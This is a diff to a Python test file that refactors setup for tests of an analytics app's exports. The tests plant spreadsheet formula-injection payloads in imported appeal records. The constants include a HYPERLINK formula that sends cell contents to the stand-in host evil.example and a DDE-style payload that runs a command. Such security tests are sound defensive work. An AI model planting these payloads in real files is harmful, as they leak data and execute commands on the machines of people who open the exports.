@@ -7,7 +7,7 @@ import io
 
 import pytest
 from analytics_jobs import settled
-from conftest import auth
+from conftest import app_with_imported, auth
 
 TERRITORY = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")'
 DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -19,28 +19,16 @@ def client(spb_slice, bundle_dirs, bundle_loader, tmp_path_factory):
     """The app over a store of 2021 slice appeals, a third of them with planted formula names."""
     from fastapi.testclient import TestClient
 
-    from api.main import build_services, create_app
-    from mcu_nlp.services.imports import import_file
     from mcu_nlp.services.keys import create_key
-    from mcu_nlp.services.models import ModelRegistry
-    from mcu_nlp.settings import Settings
-    from mcu_nlp.storage import Store
 
-    root = tmp_path_factory.mktemp("attack_exports")
-    store = Store.from_url(f"sqlite:///{root / 'store.sqlite3'}")
-    ModelRegistry(store, loader=bundle_loader).register(bundle_dirs["fake-v1"], activate=True)
-    settings = Settings(data_dir=root)
-    services = build_services(settings, store=store, loader=bundle_loader)
-    app = create_app(settings, services=services, model_sync_seconds=None)
     rows = spb_slice[(spb_slice["created_at"] >= "2021-01-01")
                      & (spb_slice["created_at"] < "2021-04-01")].iloc[::3].copy()
     planted = rows.index[::3]
     rows.loc[planted, "district"] = TERRITORY
     rows.loc[planted, "department"] = DEPARTMENT
     rows.loc[planted, "category"] = CATEGORY
-    export = root / "export.csv"
-    rows.to_csv(export, index=False)
-    summary = import_file(store, services.classifier, export, kind="spb_portal")
+    app, store, _, summary = app_with_imported(tmp_path_factory.mktemp("attack_exports"), rows,
+                                               bundle_dirs, bundle_loader)
     assert summary.stored > 100
     key = create_key(store, role="analyst")
     with TestClient(app) as test_client:
